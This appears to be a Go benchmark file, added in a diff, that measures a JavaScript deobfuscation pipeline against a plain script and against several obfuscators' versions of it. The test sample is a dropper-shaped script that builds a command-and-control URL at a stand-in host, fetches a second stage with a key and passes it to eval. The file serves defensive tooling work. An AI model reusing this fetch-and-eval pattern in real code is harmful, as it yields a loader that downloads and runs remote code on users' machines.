@@ -1,0 +1,58 @@
+package deobfuscate
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"jsrevealer/internal/js/parser"
+	"jsrevealer/internal/obfuscate"
+)
+
+// benchSample is a small dropper-shaped script: string building, an eval
+// chain, and branching — the constructs every pass has an opinion about.
+var benchSample = strings.Repeat(`var host = "ht" + "tp://" + "c2.example" + ".com";
+var key = String.fromCharCode(107, 101, 121);
+function fetchPayload(u) {
+  var x = new XMLHttpRequest();
+  x.open("G" + "ET", u, false);
+  x.send(null);
+  return x.responseText;
+}
+if (!![]) {
+  var body = fetchPayload(host + "/stage2?k=" + key);
+  eval("handle(body);");
+} else {
+  cleanup();
+}
+`, 8)
+
+// BenchmarkDeobfuscate measures Normalize over the plain sample (the
+// every-pass-fires case) and over each paper obfuscator's output (the
+// production-shaped inputs the scan engine sees).
+func BenchmarkDeobfuscate(b *testing.B) {
+	names := append([]string{"plain"}, obfuscate.PaperOrder()...)
+	variants := map[string]string{"plain": benchSample}
+	reg := obfuscate.Registry(7)
+	for _, name := range obfuscate.PaperOrder() {
+		out, err := reg[name].Obfuscate(benchSample)
+		if err != nil {
+			b.Fatalf("%s: %v", name, err)
+		}
+		variants[name] = out
+	}
+	p := NewPipeline(Config{})
+	ctx := context.Background()
+	for _, name := range names {
+		src := variants[name]
+		b.Run(name, func(b *testing.B) {
+			b.SetBytes(int64(len(src)))
+			b.ReportAllocs()
+			for i := 0; i < b.N; i++ {
+				if _, _, err := p.Normalize(ctx, src, parser.Limits{}); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
